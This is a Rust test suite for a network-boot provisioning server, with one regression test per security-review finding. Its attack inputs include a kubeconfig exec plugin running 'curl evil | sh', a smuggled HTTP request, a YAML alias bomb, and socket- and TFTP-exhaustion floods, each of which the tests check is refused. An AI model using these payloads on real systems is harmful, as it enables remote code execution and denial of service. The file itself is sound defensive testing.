//! Standing attack tests: each reproduces a finding of the security review (issue 13)
//! against the real binary and fails if the fix is undone. Add new findings here, one
//! test each, named after what the attacker tries.

mod common;

use base64::Engine as _;
use common::*;
use std::path::Path;

fn cluster_fixture() -> String {
    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/clusters.yaml")).unwrap()
}


fn report_body(ca: &str, kubeconfig: &str) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(kubeconfig);
    format!(r#"{{"state":"installed","ca_hash":"{ca}","kubeconfig":"{b64}"}}"#)
}

/// Provisions `name` (past the fixture's cluster API, which is nowhere), plays its boot
/// and config fetch, and returns its credential.
fn install_credential(srv: &Server, name: &str, mac: &str) -> String {
    assert_eq!(srv.post(&format!("/v1/machines/{name}/provision"), Some(TOKEN), r#"{"force":true}"#).0, 200);
    let (_, code, ign) = srv.boot_and_fetch(name, mac);
    assert_eq!(code, 200, "{ign}");
    credential_from_ignition(&ign)
}

fn lab() -> (tempfile::TempDir, Server) {
    let d = workdir(&cluster_fixture());
    let srv = Server::start(d.path());
    (d, srv)
}

fn s2_join(srv: &Server, cred: &str) -> (u16, String) {
    req("GET", &format!("{}/v1/machines/s2/join", srv.url), Some(cred), None)
}

/// Finding 2: a report carrying a CA hash was recorded before the state check, so a
/// credential from a retired machine could still plant a CA every joiner would pin.
#[test]
fn a_retired_machines_credential_cannot_plant_a_cluster_ca() {
    let (_d, srv) = lab();
    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
    assert_eq!(srv.admin("POST", "/v1/machines/s1/retire").0, 200);
    let (code, body) = srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"e".repeat(64), K3S_YAML));
    assert!(code == 401 || code == 409, "{code} {body}");
    let s2 = install_credential(&srv, "s2", "52:54:00:00:01:02");
    assert_eq!(s2_join(&srv, &s2).0, 503, "no CA was recorded");
}

/// Finding 2: a later bootstrap report (a reinstall, or a replay) replaced the CA hash
/// joiners pin. The first one now stands until `cluster reset`.
#[test]
fn a_second_bootstrap_report_cannot_replace_the_pinned_ca() {
    let (_d, srv) = lab();
    let first = "a".repeat(64);
    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&first, K3S_YAML)).0, 200);
    // Replaying the accepted report: refused, changes nothing.
    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"b".repeat(64), K3S_YAML)).0, 401);
    // A reinstall of the bootstrap server reporting another CA.
    let again = install_credential(&srv, "s1", "52:54:00:00:01:01");
    let (code, body) = srv.post("/v1/machines/s1/report", Some(&again), &report_body(&"c".repeat(64), K3S_YAML));
    assert_eq!(code, 409, "{body}");
    assert!(body.contains("already has a CA hash"), "{body}");
    // Refused together: the reinstalled server's state did not move either.
    assert_eq!(srv.machine("s1")["state"], "installing");
    let s2 = install_credential(&srv, "s2", "52:54:00:00:01:02");
    let (code, join) = s2_join(&srv, &s2);
    assert_eq!(code, 200, "{join}");
    assert!(join.starts_with(&format!("K3S_TOKEN=K10{first}::")), "{join}");
}

/// Finding 2: the kubeconfig was stored verbatim, so an `exec` plugin planted by a node
/// ran on the admin's workstation at the first `kubectl` with `cluster kubeconfig`.
#[test]
fn a_kubeconfig_that_would_run_code_on_the_admins_machine_is_refused() {
    let (_d, srv) = lab();
    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
    let evil = K3S_YAML.replace(
        "    client-key-data: S0VZ\n",
        "    client-key-data: S0VZ\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, \"curl evil | sh\"]\n",
    );
    let (code, body) = srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"a".repeat(64), &evil));
    assert_eq!(code, 400, "{body}");
    assert!(body.contains("`exec`"), "{body}");
    assert_eq!(srv.admin("GET", "/v1/clusters/lab/kubeconfig").0, 404, "nothing was stored");
    assert_eq!(srv.machine("s1")["state"], "installing", "a refused handover is a refused report");
}

/// Finding 2: `report.sh` took a 401 for success, so a takeover (someone else used the
/// credential first) was silent. It now fails and says why.
#[test]
fn report_script_fails_loudly_when_its_credential_was_already_used() {
    let (d, srv) = lab();
    let cred = install_credential(&srv, "a1", "52:54:00:00:01:04");
    // The attacker reports first with the stolen credential.
    assert_eq!(srv.post("/v1/machines/a1/report", Some(&cred), r#"{"state":"installed"}"#).0, 200);
    let root = d.path().join("root");
    std::fs::create_dir_all(root.join("etc/bootplane")).unwrap();
    std::fs::write(root.join("etc/bootplane/machine.env"), format!("BOOTPLANE_URL={}\nBOOTPLANE_MACHINE=a1\nBOOTPLANE_CREDENTIAL={cred}\n", srv.url)).unwrap();
    let script = bootplane_core::node::script(bootplane_core::node::REPORT_SCRIPT);
    let o = run_under_root(&root, &script, &["/etc/bootplane/", "/var/lib/bootplane", "/run/bootplane"], None);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "must fail: {err}");
    assert!(err.contains("refused this machine's report (HTTP 401)"), "{err}");
    assert!(!root.join("var/lib/bootplane/reported").exists(), "no stamp: the unit runs again next boot");
}

/// Finding 2: retiring a machine, or its attempts running out, left its credential live.
#[test]
fn credentials_die_with_retired_and_failed_machines() {
    let (_d, srv) = lab();
    let cred = install_credential(&srv, "a1", "52:54:00:00:01:04");
    assert_eq!(srv.admin("POST", "/v1/machines/a1/retire").0, 200);
    assert_eq!(req("GET", &format!("{}/v1/machines/a1/join", srv.url), Some(&cred), None).0, 401);
    assert_eq!(srv.post("/v1/machines/a1/report", Some(&cred), r#"{"state":"failed"}"#).0, 401);
    // Attempts exhausted (the fixture allows 3, each counted at its config fetch).
    let cred = install_credential(&srv, "a2", "52:54:00:00:01:05");
    for _ in 0..2 {
        assert_eq!(srv.boot_and_fetch("a2", "52:54:00:00:01:05").1, 200);
    }
    srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:05&arch=x86_64");
    assert_eq!(srv.machine("a2")["state"], "failed");
    assert_eq!(srv.post("/v1/machines/a2/report", Some(&cred), r#"{"state":"installed"}"#).0, 401);
}

fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap_or_else(|e| panic!("{}: {e}", p.display())).permissions().mode() & 0o777
}

/// Finding 3: the data directory was 0755 and the database 0644, with the credential
/// HMAC key in it in clear: any local user could compute every machine's credential.
/// Finding 12: the admin token itself was printed to stderr (the journal).
#[test]
fn local_users_can_read_neither_the_store_nor_its_secrets() {
    let d = workdir(CONFIG);
    let srv = Server::start_without_token(d.path());
    // The applied config was written, so the WAL exists.
    let data = d.path().join("data");
    assert_eq!(mode(&data), 0o700);
    for f in ["bootplane.db", "bootplane.db-wal", "bootplane.db-shm", "secret.key", "admin-token"] {
        assert_eq!(mode(&data.join(f)), 0o600, "{f}");
    }
    for f in ["bootplane.db", "bootplane.db-wal"] {
        let bytes = std::fs::read(data.join(f)).unwrap();
        assert!(!bytes.windows(17).any(|w| w == b"credential_secret"), "{f} holds a credential key");
    }
    let token = std::fs::read_to_string(data.join("admin-token")).unwrap();
    let log = srv.stop().join("\n");
    assert!(!log.contains(token.trim()), "the admin token was printed:\n{log}");
    assert!(log.contains("admin-token"), "the log says where the token is:\n{log}");
}

/// Finding 3: a world-readable secret file is reported at start.
#[test]
fn a_world_readable_secret_key_is_warned_about() {
    use std::os::unix::fs::PermissionsExt;
    let d = workdir(CONFIG);
    Server::start_without_token(d.path()).stop();
    std::fs::set_permissions(d.path().join("data/secret.key"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let log = Server::start_without_token(d.path()).stop().join("\n");
    assert!(log.contains("secret.key is readable by group or others (mode 0644)"), "{log}");
}

/// Finding 12: `cluster kubeconfig -o FILE` kept an existing file's mode, so an old
/// world-readable file received the admin's client key.
#[test]
fn kubeconfig_output_is_private_even_over_an_open_file() {
    use std::os::unix::fs::PermissionsExt;
    let (d, srv) = lab();
    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
    assert_eq!(srv.post("/v1/machines/s1/report", Some(&cred), &report_body(&"a".repeat(64), K3S_YAML)).0, 200);
    let out = d.path().join("lab.kubeconfig");
    std::fs::write(&out, "old").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    let o = bootplane(d.path()).args(["cluster", "kubeconfig", "lab", "-o"]).arg(&out).args(["--server", &srv.url]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(mode(&out), 0o600);
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(text.contains("server: https://198.18.0.100:6443") && text.contains("client-key-data: S0VZ"), "{text}");
}

/// A TFTP read request as bytes (RFC 1350 + options).
fn rrq(file: &str, options: &[(&str, &str)]) -> Vec<u8> {
    let mut b = vec![0, 1];
    for part in [file, "octet"].into_iter().chain(options.iter().flat_map(|(k, v)| [*k, *v])) {
        b.extend_from_slice(part.as_bytes());
        b.push(0);
    }
    b
}

/// Finding 9: a client-chosen `timeout` of 255 s with doubling retries held a transfer
/// slot and a socket for hours, and one host could take all 1024 slots. The long timeout
/// is now declined (left out of the OACK) and one address gets a few slots only.
#[test]
fn tftp_clients_cannot_hold_transfer_slots_for_hours() {
    let d = workdir(&CONFIG.replace("server:\n", "tftp:\n  enabled: true\n  listen: 127.0.0.1:0\nserver:\n"));
    let s = Server::start(d.path());
    let t = s.tftp.expect("TFTP address in the log");
    let timeout = std::time::Duration::from_secs(5);
    let mut held = Vec::new();
    let mut answers = Vec::new();
    for _ in 0..12 {
        let sock = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(timeout)).unwrap();
        sock.send_to(&rrq("undionly.kpxe", &[("timeout", "255"), ("tsize", "0")]), t).unwrap();
        let mut buf = [0u8; 2048];
        let n = sock.recv(&mut buf).expect("an answer");
        answers.push(buf[..n].to_vec());
        held.push(sock); // never ACKed: the transfer stays open on the server
    }
    let oacks: Vec<_> = answers.iter().filter(|a| a[..2] == [0, 6]).collect();
    let busy: Vec<_> = answers.iter().filter(|a| a[..2] == [0, 5] && String::from_utf8_lossy(a).contains("busy")).collect();
    assert_eq!(oacks.len(), 8, "8 transfers per client address");
    assert_eq!(busy.len(), 4, "the rest are told to retry later");
    for o in oacks {
        let text = String::from_utf8_lossy(o);
        assert!(text.contains("tsize") && !text.contains("timeout"), "a 255 s timeout must be declined: {text:?}");
    }
}

/// GET `url` from source address `from` (a loopback alias): (status, body).
fn get_from(from: &str, url: &str) -> (u16, String) {
    get_from_with(from, url, None)
}

fn get_from_with(from: &str, url: &str, bearer: Option<&str>) -> (u16, String) {
    let mut c = std::process::Command::new("curl");
    c.args(["-s", "--interface", from, "-w", "\n%{http_code}", url]);
    if let Some(b) = bearer {
        c.args(["-H", &format!("Authorization: Bearer {b}")]);
    }
    let o = c.output().expect("curl");
    let text = String::from_utf8_lossy(&o.stdout).to_string();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// Finding 1: while a machine was provisioning, anyone who could reach the HTTP port got
/// its Ignition (its credential, and with it the cluster's tokens) by name alone.
#[test]
fn a_bystander_cannot_fetch_a_machines_config_by_name() {
    let (_d, srv) = lab();
    assert_eq!(srv.admin("POST", "/v1/machines/s1/provision").0, 200);
    let (_, script) = srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:01&arch=x86_64");
    let nonce = nonce_in(&script);
    for path in ["/v1/machines/s1/ignition", "/v1/machines/s1/ignition?nonce=0123456789abcdef0123456789abcdef", "/v1/machines/s1/installer"] {
        let (code, body) = srv.get(path);
        assert_eq!(code, 403, "{path}: {body}");
        assert!(!body.contains("BOOTPLANE_CREDENTIAL"), "{body}");
    }
    assert_eq!(srv.machine("s1")["state"], "provision", "refused fetches start nothing");
    // A newer answer retires the older nonce.
    let (_, again) = srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:01&arch=x86_64");
    assert_ne!(nonce_in(&again), nonce);
    assert_eq!(srv.get(&format!("/v1/machines/s1/ignition?nonce={nonce}")).0, 403);
    assert_eq!(srv.get(&format!("/v1/machines/s1/ignition?nonce={}", nonce_in(&again))).0, 200);
}

/// Finding 1: a host that saw the boot answer (the nonce is in a plain-HTTP script) gets
/// nothing from another address, and its try is an alarm the operator sees; the
/// machine's own fetch still works, and a second fetch of the same config is refused.
#[test]
fn a_sniffed_nonce_is_useless_from_another_host_and_raises_an_alarm() {
    let (_d, srv) = lab();
    assert_eq!(srv.admin("POST", "/v1/machines/s1/provision").0, 200);
    let (_, script) = srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:01&arch=x86_64");
    let url = format!("{}/v1/machines/s1/ignition?nonce={}", srv.url, nonce_in(&script));
    let (code, body) = get_from("127.0.0.2", &url);
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("fetched from 127.0.0.2"), "{body}");
    let (code, ign) = get_from("127.0.0.1", &url);
    assert_eq!(code, 200, "{ign}");
    let (code, _) = get_from("127.0.0.2", &url);
    assert_eq!(code, 403);
    std::thread::sleep(std::time::Duration::from_millis(400));
    let events = srv.machine("s1")["events"].clone();
    let alarms = events.as_array().unwrap().iter().filter(|e| e["kind"] == "config.alarm").count();
    assert_eq!(alarms, 2, "{events}");
}

/// Finding 6: every installer answer counted an attempt, so four unauthenticated boot
/// requests with a machine's MAC marked it `failed`. Attempts count at the nonce-bound
/// config fetch now.
#[test]
fn boot_requests_alone_cannot_use_up_a_machines_attempts() {
    let (_d, srv) = lab();
    assert_eq!(srv.admin("POST", "/v1/machines/a1/provision").0, 200);
    for _ in 0..10 {
        let (_, script) = srv.get("/v1/boot/ipxe?mac=52:54:00:00:01:04&arch=x86_64");
        assert!(script.contains("kernel "), "{script}");
    }
    let m = srv.machine("a1");
    assert_eq!((m["state"].as_str(), m["install_attempts"].as_u64()), (Some("provision"), Some(0)));
}

/// Finding 1: `/join` handed out the cluster's tokens any number of times to whoever held
/// the credential. Now once per credential generation, plus its requester's retry.
#[test]
fn join_material_goes_out_once_per_credential() {
    let (_d, srv) = lab();
    let cred = install_credential(&srv, "s1", "52:54:00:00:01:01");
    let url = format!("{}/v1/machines/s1/join", srv.url);
    let (code, first) = get_from_with("127.0.0.1", &url, Some(&cred));
    assert_eq!(code, 200, "{first}");
    let (code, body) = get_from_with("127.0.0.2", &url, Some(&cred));
    assert_eq!(code, 409, "{body}");
    assert!(!body.contains("K3S_TOKEN"), "{body}");
    // The node's own retry after a lost answer.
    assert_eq!(get_from_with("127.0.0.1", &url, Some(&cred)), (200, first));
    std::thread::sleep(std::time::Duration::from_millis(400));
    let events = srv.machine("s1")["events"].clone();
    assert!(events.as_array().unwrap().iter().any(|e| e["kind"] == "join.alarm"), "{events}");
}

/// Finding 1: `cluster reset` kept the tokens, so whoever had them could still join the
/// rebuilt cluster; and there was no way to rotate them.
#[test]
fn reset_and_rotate_replace_the_cluster_tokens() {
    let (d, srv) = lab();
    let join = |cred: &str| req("GET", &format!("{}/v1/machines/s1/join", srv.url), Some(cred), None);
    let (code, before) = join(&install_credential(&srv, "s1", "52:54:00:00:01:01"));
    assert_eq!(code, 200, "{before}");
    let o = bootplane(d.path()).args(["cluster", "reset", "lab", "--server", &srv.url]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let (code, after_reset) = join(&install_credential(&srv, "s1", "52:54:00:00:01:01"));
    assert_eq!(code, 200, "{after_reset}");
    assert_ne!(before, after_reset);

    let o = bootplane(d.path()).args(["cluster", "rotate-tokens", "lab", "--server", &srv.url]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let printed = String::from_utf8_lossy(&o.stdout).to_string();
    assert!(printed.contains("k3s token rotate --new-token "), "{printed}");
    let new_server = printed.split("--new-token ").nth(1).unwrap().split_whitespace().next().unwrap().to_string();
    assert!(!after_reset.contains(&new_server));
    // The next join hands out the new token.
    let (code, after_rotate) = join(&install_credential(&srv, "s1", "52:54:00:00:01:01"));
    assert_eq!(code, 200, "{after_rotate}");
    assert!(after_rotate.contains(&format!("K3S_TOKEN={new_server}\n")), "{after_rotate}");
    let log = srv.stop().join("\n");
    assert!(!log.contains(&new_server), "rotated tokens never reach the log");
}

/// Finding 4: with no header timeout and no connection cap, a few hundred idle sockets
/// made `/healthz` and boot requests time out, the artifact fast path's peek waited
/// forever, and h2c was accepted with no timeouts at all.
#[test]
fn idle_and_slow_sockets_cannot_take_the_boot_path_down() {
    use std::io::{Read, Write};
    let cfg = CONFIG.replace("  max_install_attempts: 3\n", "  max_install_attempts: 3\n  header_timeout: 1s\n  max_connections_per_source: 16\n");
    let d = workdir(&cfg);
    let srv = Server::start(d.path());
    let addr: std::net::SocketAddr = srv.url.trim_start_matches("http://").parse().unwrap();
    let idle: Vec<std::net::TcpStream> = (0..40).map(|_| std::net::TcpStream::connect(addr).unwrap()).collect();
    let mut slow = std::net::TcpStream::connect(addr).unwrap();
    slow.write_all(b"GET /artifacts/rescue/kernel HTTP/1.1\r\nHost: x\r\n").unwrap();
    let mut h2 = std::net::TcpStream::connect(addr).unwrap();
    h2.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00").unwrap();
    // Another host still gets answers at once.
    let t0 = std::time::Instant::now();
    assert_eq!(get_from("127.0.0.2", &format!("{}/healthz", srv.url)).0, 200);
    let (code, script) = get_from("127.0.0.2", &format!("{}/v1/boot/ipxe?mac=52:54:00:12:34:58&arch=x86_64", srv.url));
    assert!(code == 200 && script.starts_with("#!ipxe"), "{code} {script}");
    assert!(t0.elapsed() < std::time::Duration::from_secs(5), "answers took {:?}", t0.elapsed());
    // Every idle or slow socket is closed by the server within the header timeout.
    std::thread::sleep(std::time::Duration::from_millis(2500));
    let closed = |s: &mut std::net::TcpStream| {
        s.set_read_timeout(Some(std::time::Duration::from_millis(500))).unwrap();
        let mut b = [0u8; 64];
        match s.read(&mut b) {
            Ok(0) | Err(_) => true,
            Ok(n) => String::from_utf8_lossy(&b[..n]).starts_with("HTTP/1.1"),
        }
    };
    for (i, mut s) in idle.into_iter().enumerate() {
        assert!(closed(&mut s), "idle socket {i} still open");
    }
    assert!(closed(&mut slow), "a request whose headers never end is dropped");
    let mut b = [0u8; 9];
    h2.set_read_timeout(Some(std::time::Duration::from_millis(500))).unwrap();
    let n = h2.read(&mut b).unwrap_or(0);
    assert!(n == 0 || b.starts_with(b"HTTP/1.1"), "no HTTP/2 frames: {:?}", &b[..n]);
    // 42 sockets from one address, 16 admitted: the rest were closed on arrival.
    let metrics = srv.get("/metrics").1;
    assert!(metrics.contains("bootplane_connections_refused_total 26\n"), "{metrics}");
}

/// Finding 11: a Butane alias bomb in a machine's snippet passed `check`, and one
/// unauthenticated Ignition GET aborted the server (allocation failure). Snippets are
/// now compiled at `check`/`apply` with a node budget.
#[test]
fn a_butane_alias_bomb_is_refused_at_check_and_apply() {
    let mut bomb = String::from("      a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..9 {
        bomb += &format!("      a{i}: &a{i} [{}]\n", vec![format!("*a{}", i - 1); 10].join(", "));
    }
    let cfg = CONFIG.replace("    serial: SN-3\n", &format!("    serial: SN-3\n    provision: true\n    butane: |\n      variant: fcos\n      version: 1.4.0\n{bomb}"));
    let d = workdir(&cfg);
    let o = bootplane(d.path()).args(["check", "bootplane.yaml"]).output().unwrap();
    let out = format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert!(!o.status.success() && out.contains("node3") && out.contains("alias bomb"), "{out}");
    let o = bootplane(d.path()).args(["apply", "-f", "bootplane.yaml"]).output().unwrap();
    assert!(!o.status.success(), "apply must refuse it too");
}

/// Resident memory of process `pid`, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status.lines().find_map(|l| l.strip_prefix("VmRSS:")).and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok()).unwrap()
}

/// Finding 10: first-stage files over HTTP (`/boot/{file}`) and large TFTP files were
/// read whole into memory per request: 10 slow readers of a 100 MB file took the server
/// from 42 MB to 1 GB. Both are streamed now.
#[test]
fn slow_readers_of_a_big_boot_file_cannot_balloon_the_server() {
    use std::io::Write;
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join("tftproot");
    std::fs::create_dir(&root).unwrap();
    // Sparse: costs no disk, but reading it whole would cost its full size in memory.
    std::fs::File::create(root.join("big.img")).unwrap().set_len(200 * 1024 * 1024).unwrap();
    let cfg = CONFIG.replace("server:\n", &format!("tftp:\n  enabled: true\n  listen: 127.0.0.1:0\n  root: {}\nserver:\n", root.display()));
    std::fs::write(d.path().join("bootplane.yaml"), cfg).unwrap();
    let srv = Server::start(d.path());
    let pid = srv.child.id();
    let before = rss_kib(pid);
    let t = srv.tftp.expect("TFTP address in the log");
    let addr: std::net::SocketAddr = srv.url.trim_start_matches("http://").parse().unwrap();
    let mut held = Vec::new();
    let mut socks = Vec::new();
    for _ in 0..8 {
        let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        s.send_to(&rrq("big.img", &[]), t).unwrap();
        socks.push(s); // never ACKs: the transfer stays open
        let mut c = std::net::TcpStream::connect(addr).unwrap();
        c.write_all(b"GET /boot/big.img HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
        held.push(c); // never reads: the response stays open
    }
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let during = rss_kib(pid);
    assert!(during < before + 100 * 1024, "RSS grew from {before} KiB to {during} KiB with 16 slow readers of a 200 MB file");
    // The file itself still arrives whole.
    let (code, body) = srv.get_bytes("/boot/big.img");
    assert_eq!((code, body.len()), (200, 200 * 1024 * 1024));
}

/// Finding 12: the artifact fast path ignored a request body, which then was parsed as
/// the next request on the connection (request smuggling past the router).
#[test]
fn a_body_on_an_artifact_request_is_refused_and_the_connection_closed() {
    use std::io::{Read, Write};
    let d = workdir(CONFIG);
    let srv = Server::start(d.path());
    let addr: std::net::SocketAddr = srv.url.trim_start_matches("http://").parse().unwrap();
    let mut c = std::net::TcpStream::connect(addr).unwrap();
    c.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
    c.write_all(b"GET /artifacts/rescue/kernel HTTP/1.1\r\nHost: x\r\nContent-Length: 35\r\n\r\nGET /v1/machines HTTP/1.1\r\nHost: x\r\n\r\n").unwrap();
    let mut all = String::new();
    let _ = c.read_to_string(&mut all);
    assert!(all.starts_with("HTTP/1.1 400"), "{all}");
    assert_eq!(all.matches("HTTP/1.1").count(), 1, "the body was not served as a second request: {all}");
}

/// Finding 12: an unauthenticated request that made a config fail got the error text,
/// which quotes the machine's own snippet. A broken snippet is now refused at apply; and
/// whatever fails at serve time answers with an incident id only.
#[test]
fn config_text_never_reaches_an_unauthenticated_requester() {
    let marker = "SECRET-LOOKING-MARKER";
    let cfg = CONFIG.replace("    serial: SN-3\n", &format!("    serial: SN-3\n    provision: true\n    butane: |\n      variant: fcos\n      version: 1.4.0\n      storage: {{ files: [{{ path: relative/{marker}, contents: {{ inline: x }} }}] }}\n"));
    let d = workdir(&cfg);
    let o = bootplane(d.path()).args(["apply", "-f", "bootplane.yaml"]).output().unwrap();
    if o.status.success() {
        let srv = Server::start(d.path());
        let (_, _, body) = srv.boot_and_fetch("node3", "52:54:00:12:34:58");
        assert!(!body.contains(marker), "{body}");
    } else {
        assert!(String::from_utf8_lossy(&o.stderr).contains("node3"));
    }
}

/// Finding 7: a flood of unauthenticated boot requests rotated the event log within
/// seconds (erasing every state.changed, config.served and join.served record) and
/// evicted discovered machines. Audit events are now kept by age, and what one source
/// may write without authenticating is budgeted.
#[test]
fn a_boot_flood_erases_no_audit_event_and_evicts_no_real_discovery() {
    let cfg = CONFIG.replace("  max_install_attempts: 3\n", "  max_install_attempts: 3\n  events_retained: 50\n  unauthenticated_events_per_minute: 30\n");
    let d = workdir(&cfg);
    let srv = Server::start(d.path());
    let (_, code, _) = srv.boot_and_fetch("node1", "52:54:00:12:34:56");
    assert_eq!(code, 200);
    // A real unknown machine shows up before the flood.
    assert_eq!(get_from("127.0.0.3", &format!("{}/v1/boot/ipxe?mac=52:54:00:aa:bb:cc&arch=x86_64", srv.url)).0, 200);
    let urls: Vec<String> = (0..600).map(|i| format!("{}/v1/boot/ipxe?mac=02:00:00:00:{:02x}:{:02x}&arch=x86_64", srv.url, i / 256, i % 256)).collect();
    let o = std::process::Command::new("curl").args(["-s", "-o", "/dev/null", "--interface", "127.0.0.2"]).args(&urls).output().unwrap();
    assert!(o.status.success());
    // Past the pruner's next round.
    std::thread::sleep(std::time::Duration::from_secs(6));
    let node1 = srv.machine("node1");
    let kinds: Vec<&str> = node1["events"].as_array().unwrap().iter().filter_map(|e| e["kind"].as_str()).collect();
    assert!(kinds.contains(&"state.changed") && kinds.contains(&"config.served"), "{kinds:?}");
    let list: serde_json::Value = serde_json::from_str(&srv.admin("GET", "/v1/machines").1).unwrap();
    let discovered: Vec<&str> = list.as_array().unwrap().iter().filter(|m| m["state"] == "discovered").filter_map(|m| m["name"].as_str()).collect();
    assert!(discovered.len() <= 31, "{} discovered", discovered.len());
    assert!(discovered.contains(&"discovered-525400aabbcc"), "the real one is still there: {discovered:?}");
    let metrics = srv.get("/metrics").1;
    let suppressed: u64 = metrics.lines().find_map(|l| l.strip_prefix("bootplane_events_suppressed_total ")).and_then(|v| v.trim().parse().ok()).unwrap();
    assert!(suppressed >= 560, "{suppressed}");
}

/// Finding 5: the admin API shared the listener machines (and everyone on their LAN)
/// reach. With `server.admin_listen` it is served there only.
#[test]
fn the_admin_api_can_live_on_its_own_listener() {
    let d = workdir(&CONFIG.replace("server:\n", "server:\n  admin_listen: 127.0.0.1:0\n"));
    let srv = Server::start(d.path());
    let admin = srv.startup.iter().find_map(|l| l.strip_prefix("bootplane: admin API on ")).expect("an admin listener").trim().to_string();
    assert_eq!(srv.admin("GET", "/v1/machines").0, 404, "not on the machines' listener, even with the token");
    assert_eq!(srv.admin("POST", "/v1/machines/node2/provision").0, 404);
    assert_eq!(req("GET", &format!("{admin}/v1/machines"), Some(TOKEN), None).0, 200);
    assert_eq!(req("GET", &format!("{admin}/v1/machines"), None, None).0, 401, "and still needs the token there");
    // The boot path is unchanged.
    assert!(srv.get("/v1/boot/ipxe?mac=52:54:00:12:34:56&arch=x86_64").1.contains("kernel "));
}

/// Finding 6: boot requests were answered without limit per source. One address gets
/// `server.boot_requests_per_minute`; more get 429, others are unaffected.
#[test]
fn one_address_cannot_take_all_the_boot_answers() {
    let d = workdir(&CONFIG.replace("  max_install_attempts: 3\n", "  max_install_attempts: 3\n  boot_requests_per_minute: 20\n"));
    let srv = Server::start(d.path());
    let url = |i: u32| format!("{}/v1/boot/ipxe?mac=02:00:00:00:00:{:02x}&arch=x86_64", srv.url, i);
    // Until the first 429: the budget, plus what refilled meanwhile (20 a minute; a loaded
    // machine answers slowly, so the count is bounded by the elapsed time, not fixed).
    let t0 = std::time::Instant::now();
    let codes: Vec<u16> = (0..200u32).map(|i| get_from("127.0.0.2", &url(i % 256)).0).take_while(|c| *c != 429).collect();
    let refilled = (t0.elapsed().as_secs_f64() * 20.0 / 60.0).ceil() as usize;
    assert!(codes.len() < 200, "never refused: {codes:?}");
    assert!(codes.iter().all(|c| *c == 200), "{codes:?}");
    assert!((20..=20 + refilled).contains(&codes.len()), "{} answers before the first 429 (budget 20, {refilled} refilled)", codes.len());
    assert_eq!(get_from("127.0.0.3", &url(99)).0, 200, "another address is not affected");
}
